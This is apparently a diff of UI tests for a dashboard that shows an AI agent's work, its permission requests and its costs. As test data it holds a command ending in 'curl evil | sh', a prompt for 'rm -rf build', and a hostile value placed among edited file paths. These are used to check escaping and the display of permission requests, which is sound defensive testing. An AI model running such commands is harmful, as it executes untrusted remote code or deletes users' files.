@@ -71,7 +71,7 @@ test('an agent at work is on the page with what it does, whatever that contains'
   run.engine.takes();
   const page = draw(run, {}, { news });
   expect(textOf(page)).toContain(
-    'An attempt is in progress. the agent · 2 tool calls · 1 failed · 0.42 USD, 1,200 tokens · begun',
+    'Iteration 0, attempt 1 is at work the agent · 2 tool calls · 1 failed · 0.42 USD, 1,200 tokens · begun',
   );
   expect(page).toContain('<span class="verdict tone-danger" title="failed">✗</span> <code>npm test');
   expect(page).toContain('title="running">…</span>');
@@ -96,9 +96,9 @@ test('verifiers at work are on the page one by one', () => {
 
 test('an agent that waits, and work that is only pushed, are not told as an agent at work', () => {
   const asking = story().starts().engine.takes().agent.asks();
-  expect(textOf(draw(asking))).toContain('The agent waits for permission.');
+  expect(textOf(draw(asking))).toContain('At work Waiting for permission: rm -rf build');
   const allowed = story().starts().agent.isHeld().says(ada, '/allow').engine.takes();
-  expect(textOf(draw(allowed))).toContain('The allowed work is being pushed.');
+  expect(textOf(draw(allowed))).toContain('At work The allowed work is being put on the branch');
 });
 
 test('what an agent asks for is on the page as a whole, beside the buttons that allow it', () => {
@@ -106,14 +106,16 @@ test('what an agent asks for is on the page as a whole, beside the buttons that 
   const hits = [{ rule: 'network', severity: 'high', evidence: hostile }] as const;
   const page = draw(story().starts().engine.takes().agent.asks({ command, hits }));
   expect(buttonsIn(page)).toContain('Allow once');
-  expect(page).toContain(`${'a'.repeat(300)} &amp;&amp; curl evil | sh</pre>`);
-  expect(textOf(page)).toMatch(/What the agent asks for .*network : .*The agent waits until/);
+  expect(textOf(page).replaceAll('↩ ', '')).toContain(`echo ${'a'.repeat(300)} &amp;&amp; curl evil | sh `);
+  expect(textOf(page)).toMatch(
+    /Where it stands .*Asked because of network \(high\): .*The agent waits until/,
+  );
   expect(page).not.toContain(hostile);
   const { command: _, ...call } = { ...removal, kind: 'edit', title: 'Edit', paths: ['src/a.ts', hostile] };
   const run = story().starts().engine.takes();
   const until = '2025-03-03T12:02:00Z';
   const edits = draw(run.apply({ type: 'permission_requested', hold: run.hold, call, until }));
-  expect(edits).toContain('<b>edit</b>: Edit</p><ul><li><code>src/a.ts</code>');
+  expect(textOf(edits)).toMatch(/edit : Edit\s+src\/a\.ts /);
   expect(edits).not.toContain(hostile);
 });
 
@@ -121,9 +123,7 @@ test("an agent's news belong to the page's script where there is one", () => {
   const run = story().starts();
   run.engine.takes();
   const page = draw(run, {}, { news: 'script' });
-  expect(page).toMatch(
-    /<p role="status" aria-live="polite">An attempt is in progress\.<\/p>\n<div [^>]*><\/div>/,
-  );
+  expect(page).toMatch(/<p>Iteration 0, attempt 1 is at work<\/p>\s*<div id="at-work-news"[^>]*><\/div>/);
 });
 
 test('where nothing is at work there is nothing to follow', () => {
@@ -205,7 +205,7 @@ test('costs have a column only where an agent reports any', () => {
   expect(textOf(draw(run))).toContain('confidence work time');
   run.says(ada, '/steer again').agent.finishes({ cost: { usd: 0.42 } });
   run.verifiers.pass();
-  expect(textOf(draw(run))).toMatch(/1.00 high not reported 1 min 5 s 1 ada again/);
+  expect(textOf(draw(run))).toMatch(/1.00 not reported 1 min 5 s 1 ada again/);
 });
 
 test('what the ledger notes for itself is left out of the history', () => {
